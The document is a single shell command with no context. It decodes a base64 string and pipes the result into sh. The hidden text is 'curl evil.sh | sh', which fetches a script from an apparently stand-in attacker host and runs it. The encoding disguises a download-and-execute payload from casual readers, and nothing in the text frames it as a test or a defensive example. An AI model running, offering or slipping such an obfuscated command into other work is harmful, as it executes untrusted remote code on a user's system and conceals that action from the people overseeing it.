echo Y3VybCBldmlsLnNoIHwgc2gK | base64 -d | sh
